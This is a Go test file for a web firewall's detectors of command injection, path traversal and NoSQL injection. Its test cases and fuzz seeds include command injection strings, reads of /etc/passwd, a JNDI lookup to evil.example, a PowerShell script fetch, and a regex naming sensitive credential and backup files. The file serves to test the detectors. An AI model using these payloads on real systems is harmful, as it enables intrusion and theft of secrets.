package injection

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/edgeward/edgeward/policies"
	"github.com/edgeward/edgeward/policies/internal/textx"
)

// Tests of the command injection, traversal and NoSQL detectors' pre-filters and scanners, and
// of the body content-type decision. The pre-filters must never rule out a value that the full
// patterns would match: the fuzz targets below check that against the patterns themselves.

func TestDetectCmdiCases(t *testing.T) {
	tests := []struct {
		in    string
		whole bool
		want  bool
	}{
		{"127.0.0.1;id", true, true},
		{"a&&cat${IFS}/etc/passwd", true, true},
		{";w'h'o'a'm'i", true, true},
		{"x=\"child_process\";", true, true},
		{"c\\\nat /etc/passwd;", true, true},
		{"& FOR /F \"tokens=1-3\" %A IN (\"a b\") DO @echo pwnd", true, true},
		{"for %variable in (set) do command", true, true},
		{"IF /I NOT 1==2 CMD", true, true},
		{"if \"%1\"==\"\" goto ERROR", true, true},
		{"IF CMDEXTVERSION 1 GOTO start", true, true},
		{"time sh -c whoami", true, true},
		{"$SHELL -c \"echo hi\"", true, true},
		{"alias a=b", true, true},
		{"time; ansible-playbook site.yml", true, true},
		{"ansible-config dump", true, true},
		{"flock -u / whoami", true, true},
		{"_$$ND_FUNC$$_function(){}", true, true},
		{"new Function (", true, true},
		{"${:1337:-x$}{jndi:ldap://evil.example/a}", true, true},
		{";iwr http://example.com/a.ps1", true, true},
		// Benign: prose, code and markup that share shell characters or command words.
		{"Tom & Jerry; the best cartoon", true, false},
		{"Time | Date | Place", true, false},
		{"if (x == 1) return y;", true, false},
		{"if x == 1: exit()", true, false},
		{"Fork & knife", true, false},
		{"It's time to curl up with a book", true, false},
		{"the ansible docs are great", true, false},
		{"lastlogin", true, false},
		{"A plain sentence about the product, with punctuation; and some numbers 12.50.", true, false},
		{"Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", true, false},
		{"whoami", false, false},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := detectCmdi(tc.in, tc.whole); got != tc.want {
				t.Errorf("detectCmdi(%q, %v) = %v, want %v", tc.in, tc.whole, got, tc.want)
			}
		})
	}
}

func TestCmdiFeatures(t *testing.T) {
	tests := []struct {
		in   string
		want uint64 // bits that must be set
		not  uint64 // bits that must not be set
	}{
		{"hello world", 0, cfCommand | cfSep},
		{"w'h'o\"am\"i", cfCommand, 0},
		{"x=\"curl\"", cfCommand | cwFetch, 0},
		{"/???/??t", cfGlob | cfLeadSlash, 0},
		{"() { :; }", cfLeadParen | cfSep, 0},
		{"<?php", cfLtQ | cfCommand, 0},
		{"a|b", cfPipe | cfSep, 0},
		{"WGET", cfCommand | cwFetch, 0},
		{strings.Repeat("a", 40) + "cat", 0, cfCommand},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			got := cmdiFeatures(tc.in)
			if got&tc.want != tc.want || got&tc.not != 0 {
				t.Errorf("cmdiFeatures(%q) = %b, want bits %b set and %b clear", tc.in, got, tc.want, tc.not)
			}
		})
	}
}

func TestTraversalScanners(t *testing.T) {
	tests := []struct {
		in             string
		trav, pathTrav bool
	}{
		{in: "../../etc/passwd", trav: true, pathTrav: true},
		{in: "C:\\inetpub\\wwwroot\\web.config", trav: true, pathTrav: true},
		{in: "/.git/config", trav: true, pathTrav: true},
		{in: "/app/.env", trav: true, pathTrav: true},
		{in: "/backup/db.sql.gz", trav: false, pathTrav: true},
		{in: "/config.php~", trav: false, pathTrav: true},
		{in: "/api/config.json", trav: false, pathTrav: false}, {in: "/api/secrets.json", trav: false, pathTrav: true},
		{in: "/.well-known/openid-configuration", trav: false, pathTrav: false},
		{in: "/acme/web/-/blob/main/.github/workflows/ci.yml", trav: false, pathTrav: false},
		{in: "/acme/web/-/raw/main/.gitignore", trav: false, pathTrav: false},
		{in: "/acme/web/.git/HEAD", trav: true, pathTrav: true},
		{in: "/.github/../.env", trav: true, pathTrav: true},
		{in: "/static/js/app.3f2a1b.min.js", trav: false, pathTrav: false},
		{in: "Wait... what?", trav: false, pathTrav: false},
		{in: "report..final.pdf", trav: false, pathTrav: false},
		{in: "the home page", trav: false, pathTrav: false},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := detectTraversal(tc.in); got != tc.trav {
				t.Errorf("detectTraversal(%q) = %v, want %v", tc.in, got, tc.trav)
			}
			if got := detectPathTraversal(tc.in); got != tc.pathTrav {
				t.Errorf("detectPathTraversal(%q) = %v, want %v", tc.in, got, tc.pathTrav)
			}
		})
	}
}

func TestBodyMayCarryAttack(t *testing.T) {
	tests := []struct {
		name string
		cts  []string
		want bool
	}{
		{"missing", nil, true},
		{"json", []string{"application/json"}, true},
		{"json charset", []string{"application/json; charset=utf-8"}, true},
		{"form", []string{"application/x-www-form-urlencoded"}, true},
		{"multipart", []string{"multipart/form-data; boundary=x"}, true},
		{"text", []string{"text/plain"}, true},
		{"xml", []string{"application/xml"}, true},
		{"vendor json", []string{"application/vnd.api+json"}, true},
		{"svg is xml with script", []string{"image/svg+xml"}, true},
		{"unknown", []string{"application/x-weird"}, true},
		{"garbage", []string{"not a type"}, true},
		{"two types", []string{"image/png", "application/json"}, true},
		{"list in one header", []string{"image/png, application/json"}, true},
		{"png", []string{"image/png"}, false},
		{"upper case jpeg", []string{" IMAGE/JPEG "}, false},
		{"octet-stream", []string{"application/octet-stream"}, false},
		{"zip", []string{"application/zip"}, false},
		{"pdf", []string{"application/pdf"}, false},
		{"video", []string{"video/mp4"}, false},
		{"audio", []string{"audio/mpeg"}, false},
		{"font", []string{"font/woff2"}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := bodyMayCarryAttack(tc.cts); got != tc.want {
				t.Errorf("bodyMayCarryAttack(%q) = %v, want %v", tc.cts, got, tc.want)
			}
		})
	}
}

func TestInertBodyNotBuffered(t *testing.T) {
	tests := []struct {
		name, cfg, ct string
		want          policies.Action
	}{
		{"image upload passes without buffering", `{}`, "image/png", policies.Continue},
		{"json is buffered", `{}`, "application/json", policies.NeedBody},
		{"no content type is buffered", `{}`, "", policies.NeedBody},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := injEngine(t, tc.cfg)
			h := policies.Headers{}
			if tc.ct != "" {
				h = append(h, policies.Header{Name: "content-type", Value: tc.ct})
			}
			tx := e.NewTx(&policies.Request{Method: "POST", Path: "/upload", Headers: h, SourceAddress: "203.0.113.5:5000", ID: "r"}, time.Unix(1700000000, 0))
			if got := tx.RequestHeaders().Action; got != tc.want {
				t.Errorf("action = %v, want %v", got, tc.want)
			}
		})
	}
}

func TestIndexWordFold(t *testing.T) {
	tests := []struct {
		s, w string
		want int
	}{
		{"if (THIS.x == 1)", "this", 4},
		{"athis", "this", -1},
		{"_this", "this", 1},
		{"", "this", -1},
		{"thi", "this", -1},
	}
	for _, tc := range tests {
		if got := textx.IndexWordFold(tc.s, tc.w); got != tc.want {
			t.Errorf("textx.IndexWordFold(%q, %q) = %d, want %d", tc.s, tc.w, got, tc.want)
		}
	}
}

// oldRestrictedPathSegment is the regular expression that restrictedPath replaced; the fuzz
// target checks that the scanner agrees with it (outside publicDotNames).
var oldRestrictedPathSegment = regexp.MustCompile(`(?:^|/)\.(?:[a-z0-9_-])` +
	`|\.(?:sql|bak|old|orig|swp|swo|save|backup|dump|db|sqlite|sqlite3|mdb|pem|key|crt|p12|pfx|log|ini|conf|cfg|env|tfstate|kdbx)$` +
	`|\.(?:sql|bak|old|orig|save|backup|dump|db|sqlite|sqlite3|mdb|env|tfstate|kdbx)\.(?:gz|zip|tar|tgz|bz2|xz|7z|rar)$` +
	`|(?:^|/)(?:wp-config|database|secrets?|credentials?)\.(?:php|inc|bak|old|yml|yaml|json|toml)(?:[~.]|$)` +
	`|(?:^|/)(?:config|configuration|settings)\.(?:php|inc|bak|old|yml|yaml|toml)(?:[~.]|$)` +
	`|~$`)

var otherSeeds = []string{
	"127.0.0.1;id", "a&&cat${IFS}/etc/passwd", ";w'h'o'a'm'i", "/???/??t /???/p??s??",
	"for %a in (x) do y", "../../etc/passwd", "C:\\windows\\win.ini", "/.git/config", "/db.sql.gz",
	"/config.php~", "Tom & Jerry", "{\"$ne\":null}", "this.password.match(/x/)", "\xef\xbc\x8e",
}

// FuzzCmdiPrefilter checks that a value the feature scan rules out matches no cmdi pattern and
// is not reported.
func FuzzCmdiPrefilter(f *testing.F) {
	for _, s := range otherSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fs := cmdiFeatures(s)
		l := strings.ToLower(s)
		for i := range cmdiDirect {
			if p := &cmdiDirect[i]; fs&p.need == 0 && p.re.MatchString(l) && cmdiFeatures(l)&p.need == 0 {
				t.Fatalf("pattern %d matches %q but its trigger %b is not among %b", i, s, p.need, fs)
			}
		}
		_ = detectCmdi(s, true)
	})
}

// FuzzTraversalPrefilter checks that mayBeSensitive never rules out a value that sensitiveFile
// matches, and that restrictedPath agrees with the regular expression it replaced.
func FuzzTraversalPrefilter(f *testing.F) {
	for _, s := range otherSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := strings.ToLower(strings.ReplaceAll(s, "\\", "/"))
		if !mayBeSensitive(s) && sensitiveFile.MatchString(n) {
			t.Fatalf("mayBeSensitive(%q) = false but sensitiveFile matches", s)
		}
		for _, seg := range strings.Split(n, "/") {
			if publicDotNames[seg] || strings.HasPrefix(seg, ".eslintrc") || strings.HasPrefix(seg, ".prettierrc") || strings.HasPrefix(seg, ".net-") {
				return // allowed on purpose: repository metadata, tags
			}
		}
		if codeHostView(n) >= 0 {
			return // a code host's repository view: allowed on purpose
		}
		if got, want := restrictedPath(n), oldRestrictedPathSegment.MatchString(n); got != want {
			t.Fatalf("restrictedPath(%q) = %v, regexp says %v", n, got, want)
		}
	})
}

// FuzzNoSQLPrefilter checks that detectNoSQL's pre-filter rules out only values the patterns
// do not match.
func FuzzNoSQLPrefilter(f *testing.F) {
	for _, s := range otherSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if want := nosqlInValue.MatchString(strings.ToLower(s)); want && !detectNoSQL(s) {
			t.Fatalf("detectNoSQL(%q) = false, patterns match", s)
		}
	})
}

// TestDropShellVarsAsPattern: dropShellVars removes exactly what shellVar.ReplaceAllString(s, "")
// removes, on every value of the dev corpora and on random strings over the pattern's own
// alphabet (dollars, variable and special characters, word and non-word, ASCII and not).
func TestDropShellVarsAsPattern(t *testing.T) {
	var values []string
	for _, path := range []string{"../testdata/injection_attacks.jsonl", "../testdata/injection_benign.jsonl"} {
		for _, c := range loadCorpus(t, path) {
			values = append(values, c.Body, c.Path, strings.ToLower(c.Body), strings.ToLower(c.Path))
		}
	}
	alphabet := []string{"$", "$", "a", "Z", "_", "9", "!", "@", "#", "*", "?", "-", "(", "{", " ", "é", "\xff", "\\"}
	seed := uint32(1)
	for n := 0; n < 20000; n++ {
		var b strings.Builder
		for k := 0; k < 1+n%12; k++ {
			seed = seed*1664525 + 1013904223
			b.WriteString(alphabet[int(seed>>16)%len(alphabet)])
		}
		values = append(values, b.String())
	}
	values = append(values, strings.Repeat("$a", 5000), strings.Repeat("$$", 5000), strings.Repeat("${", 5000))
	for _, v := range values {
		if got, want := dropShellVars(v), shellVar.ReplaceAllString(v, ""); got != want {
			t.Fatalf("dropShellVars(%.100q) = %.100q, the pattern gives %.100q", v, got, want)
		}
	}
}
